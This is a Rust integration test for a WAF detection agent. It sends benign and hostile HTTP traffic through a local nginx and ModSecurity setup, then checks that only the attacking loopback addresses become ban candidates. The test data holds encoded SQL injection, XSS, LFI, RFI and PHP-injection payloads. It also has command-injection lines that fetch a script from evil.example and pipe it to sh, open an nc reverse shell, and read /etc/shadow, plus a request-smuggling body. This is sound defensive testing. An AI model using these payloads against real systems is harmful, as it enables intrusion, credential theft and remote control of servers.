//! The WAF stage against a real WAF: nginx + libmodsecurity v3 + OWASP CRS writing its JSON
//! audit log, benign users and attackers sending from distinct loopback addresses. No
//! hand-written log here: whatever ModSecurity writes is what the pipeline must get right.

mod support;

use std::{
    collections::{BTreeMap, BTreeSet},
    net::{IpAddr, Ipv4Addr},
    time::{Duration, Instant},
};

use support::nginx_waf::{self, RealWaf};
use youwatch_agent::{
    detection::Subject,
    tail::{FollowConfig, StartAt},
    waf::{
        WafConfig, WafStage,
        classify::{Class, Classifier, message_class},
        entry::Parser,
        replay,
    },
};

fn attacker(n: u8) -> Ipv4Addr {
    Ipv4Addr::new(127, 0, 1, n)
}

fn user(n: u8) -> Ipv4Addr {
    Ipv4Addr::new(127, 0, 2, n)
}

/// Attackers by source address, with the class their traffic must be recognised as.
fn attacks() -> Vec<(Ipv4Addr, Class, Vec<&'static str>)> {
    vec![
        (
            attacker(1),
            Class::Sqli,
            vec![
                "/products?id=1%27%20OR%20%271%27%3D%271",
                "/products?id=1%20UNION%20SELECT%20username%2Cpassword%20FROM%20users--",
                "/login?user=admin%27--&pass=x",
                "/products?id=1%3B%20DROP%20TABLE%20users",
                "/search?q=%27%20or%20sleep(5)%23",
            ],
        ),
        (
            attacker(2),
            Class::Xss,
            vec![
                "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
                "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(document.cookie)%3E",
                "/search?q=javascript%3Aalert(1)",
                "/?q=%3Csvg%2Fonload%3Dalert(1)%3E",
            ],
        ),
        (
            attacker(3),
            Class::Rce,
            vec![
                "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fpasswd",
                "/ping?host=%7C%20cat%20%2Fetc%2Fshadow",
                "/ping?host=%24(whoami)",
                "/?cmd=%3B%20wget%20http%3A%2F%2Fevil.example%2Fx.sh%20-O-%7Csh",
                "/ping?host=x%26%26%20nc%20-e%20%2Fbin%2Fsh%20203.0.113.9%204444",
            ],
        ),
        (
            attacker(4),
            Class::Lfi,
            vec![
                "/download?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd",
                "/download?file=....%2F%2F....%2F%2Fetc%2Fshadow",
                "/download?file=%2Fproc%2Fself%2Fenviron",
                "/?f=..%5C..%5C..%5Cwindows%5Cwin.ini",
                "/download?file=..%2F..%2F..%2F..%2Fetc%2Fhosts",
            ],
        ),
        (
            attacker(5),
            Class::Rfi,
            vec![
                "/?page=http%3A%2F%2F203.0.113.9%2Fshell.txt",
                "/?page=http%3A%2F%2Fevil.example%2Fshell.txt%3F",
                "/?include=ftp%3A%2F%2F198.51.100.2%2Fc99.php",
                "/?inc=http%3A%2F%2Fevil.example%2Fx.php%3F",
                "/?template=https%3A%2F%2F198.51.100.7%2Fr57.txt",
            ],
        ),
        (
            attacker(6),
            Class::Php,
            vec![
                "/?x=%3C%3Fphp%20system(%24_GET%5B%27c%27%5D)%3B%20%3F%3E",
                "/?f=php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex.php",
                "/?code=phpinfo()%3B",
                "/?a=base64_decode(%24x)",
                "/?cfg=allow_url_include%3DOn",
            ],
        ),
    ]
}

const SCANNER_UAS: [&str; 5] = [
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)",
    "Nikto/2.1.6",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
];

/// Benign traffic, protocol anomalies from a broken client, and the attacks above.
fn send_traffic(waf: &RealWaf) {
    for n in 1..=6 {
        for target in [
            "/",
            "/products?id=42",
            "/search?q=red%20shoes",
            "/static/app.js",
            "/products?category=books&page=2",
        ] {
            waf.get(user(n), target, "");
        }
        let body = "user=alice&pass=correct%20horse";
        waf.send(
            user(n),
            &format!(
                "POST /login HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                body.len()
            ),
        );
    }
    // A broken client: numeric Host, HTTP/1.0 without Host. Protocol anomalies only.
    for _ in 0..8 {
        waf.send(
            user(9),
            "GET /health HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: probe/1.0\r\nAccept: */*\r\nConnection: close\r\n\r\n",
        );
    }
    waf.send(
        user(9),
        "GET /health HTTP/1.0\r\nUser-Agent: probe/1.0\r\nAccept: */*\r\n\r\n",
    );

    for (source, _, targets) in attacks() {
        for target in targets {
            let status = waf.get(source, target, "");
            assert_eq!(status, 403, "the WAF did not block {target}");
        }
    }
    for ua in SCANNER_UAS {
        waf.send(
            attacker(7),
            &format!("GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: {ua}\r\nAccept: */*\r\nConnection: close\r\n\r\n"),
        );
    }
    // Protocol anomalies and request smuggling, then SQLi, from one attacker.
    let p = attacker(8);
    waf.send(p, "GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: x\r\nAccept: */*\r\nContent-Length: 5\r\nConnection: close\r\n\r\nhello");
    waf.get(p, "/?a=%00", "");
    let smuggle = "a=1\r\n\r\nGET /admin HTTP/1.1\r\nHost: shop.example\r\n\r\n";
    waf.send(p, &format!("POST /login HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: x\r\nAccept: */*\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{smuggle}", smuggle.len()));
    waf.get(p, "/?id=1%27%20OR%201%3D1--", "");
    waf.get(p, "/?id=1%20UNION%20ALL%20SELECT%20NULL%2CNULL--", "");
    waf.get(
        p,
        "/?id=1%27%20AND%20extractvalue(1%2Cconcat(0x7e%2Cversion()))--",
        "",
    );
}

fn attackers() -> BTreeSet<IpAddr> {
    (1..=8).map(|n| IpAddr::V4(attacker(n))).collect()
}

fn test_config(waf: &RealWaf) -> WafConfig {
    let mut cfg = WafConfig {
        audit_log: waf.audit_log(),
        follow: FollowConfig {
            start_at: StartAt::Beginning,
            poll_interval: Duration::from_millis(100),
            ..FollowConfig::default()
        },
        ..WafConfig::default()
    };
    // Our attackers live on 127.0.1.0/24.
    cfg.client_ip.ban_loopback = true;
    cfg
}

#[test]
fn real_modsecurity_crs_attackers_and_only_attackers_are_ban_candidates() {
    if !nginx_waf::available("real_modsecurity_crs_attackers_and_only_attackers_are_ban_candidates")
    {
        return;
    }
    let waf = RealWaf::start("");
    let state = tempfile::tempdir().unwrap();
    let cfg = test_config(&waf);

    // The live stage follows the log while the traffic happens.
    let stage = WafStage::new(&cfg, state.path()).unwrap().unwrap();
    let (bus, mut rx) = support::bus::single(256);
    let handle = stage.spawn(bus).unwrap();
    send_traffic(&waf);
    let log = waf.settled_log();
    let mut detections = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(10);
    while Instant::now() < deadline {
        match rx.try_recv() {
            Some(d) => detections.push(d),
            None if detections.len() >= 8 => {
                // Give stragglers a moment, then stop.
                std::thread::sleep(Duration::from_millis(300));
                while let Some(d) = rx.try_recv() {
                    detections.push(d);
                }
                break;
            }
            None => std::thread::sleep(Duration::from_millis(50)),
        }
    }
    tokio::runtime::Builder::new_current_thread()
        .build()
        .unwrap()
        .block_on(handle.shutdown())
        .unwrap();

    if let Ok(path) = std::env::var("YOUWATCH_CAPTURE_AUDIT_LOG") {
        std::fs::write(&path, &log).unwrap();
    }

    let banned: BTreeSet<IpAddr> = detections
        .iter()
        .filter_map(|d| match &d.subject {
            Subject::Attacker {
                ip,
                ban_for: Some(_),
                host,
            } => {
                assert_eq!(host.as_deref(), Some("shop.example"));
                Some(*ip)
            }
            _ => None,
        })
        .collect();
    assert_eq!(banned, attackers(), "live stage: ban candidates");
    assert_eq!(
        detections.len(),
        8,
        "one ban detection per attacker: {detections:#?}"
    );

    // What the real log says, entry by entry.
    let classifier = Classifier::new(cfg.ban_class_set());
    let mut parser = Parser::new();
    let mut classes: BTreeMap<IpAddr, BTreeSet<Class>> = BTreeMap::new();
    let mut empty_tag_sqli = 0;
    let mut entries = 0;
    for line in log.split(|&c| c == b'\n').filter(|l| !l.is_empty()) {
        let e = parser
            .parse(line)
            .expect("ModSecurity wrote a line we cannot parse");
        entries += 1;
        let ip: IpAddr = std::str::from_utf8(e.client_ip()).unwrap().parse().unwrap();
        let v = classifier.classify(&e);
        classes.entry(ip).or_default().extend(v.classes.iter());
        if attackers().contains(&ip) && !v.ban_classes.is_empty() {
            assert!(
                v.blocked,
                "SecRuleEngine On blocked this attack: {}",
                String::from_utf8_lossy(line)
            );
            assert!(v.score_from_waf, "949110 gave the score");
        }
        for m in e.messages() {
            let mut tags = 0;
            e.tags(m, |_| tags += 1);
            if m.rule_id == Some(942100) && tags == 0 {
                empty_tag_sqli += 1;
                assert_eq!(message_class(&e, m), Some(Class::Sqli));
            }
        }
    }
    eprintln!("{entries} audit-log entries; 942100 logged with empty tags {empty_tag_sqli} times");
    assert!(
        empty_tag_sqli > 0,
        "libmodsecurity 3.0.x logs 942100 with empty tags; classify by rule id must cover it"
    );
    for (source, class, _) in attacks() {
        assert!(
            classes[&IpAddr::V4(source)].contains(&class),
            "{source}: {:?}",
            classes[&IpAddr::V4(source)]
        );
    }
    assert!(classes[&IpAddr::V4(attacker(7))].contains(&Class::Scanner));
    assert!(classes[&IpAddr::V4(attacker(8))].contains(&Class::Protocol));
    // The broken client shows up, with protocol anomalies only, and is not banned...
    assert_eq!(
        classes[&IpAddr::V4(user(9))].iter().collect::<Vec<_>>(),
        [&Class::Protocol]
    );
    for n in 1..=6 {
        assert!(
            !classes.contains_key(&IpAddr::V4(user(n)))
                || classes[&IpAddr::V4(user(n))]
                    .iter()
                    .all(|c| *c == Class::Protocol)
        );
    }
    // ...unless protocol anomalies are made a ban reason.
    let replay_default: BTreeSet<IpAddr> = replay::bans_in(&cfg, &log)
        .into_iter()
        .map(|(ip, _)| ip)
        .collect();
    assert_eq!(
        replay_default,
        attackers(),
        "replay decides as the live stage"
    );
    let mut strict = cfg.clone();
    strict.ban_classes.push(Class::Protocol);
    let replay_strict: BTreeSet<IpAddr> = replay::bans_in(&strict, &log)
        .into_iter()
        .map(|(ip, _)| ip)
        .collect();
    let mut want = attackers();
    want.insert(IpAddr::V4(user(9)));
    assert_eq!(replay_strict, want);
    // And without the lab switch, loopback is never banned.
    let mut safe = cfg.clone();
    safe.client_ip.ban_loopback = false;
    assert!(replay::bans_in(&safe, &log).is_empty());

    // The CLI tool prints the same verdict.
    let config = waf.dir().join("agent.yaml");
    std::fs::write(&config, "waf:\n  client_ip:\n    ban_loopback: true\n").unwrap();
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_youwatch-agent"))
        .arg("replay")
        .arg(waf.audit_log())
        .arg("--config")
        .arg(&config)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(stdout.contains("would ban 8 IP(s)"), "{stdout}");
    for ip in attackers() {
        assert!(
            stdout.contains(&format!("  {ip} ")),
            "{ip} missing in:\n{stdout}"
        );
    }
}
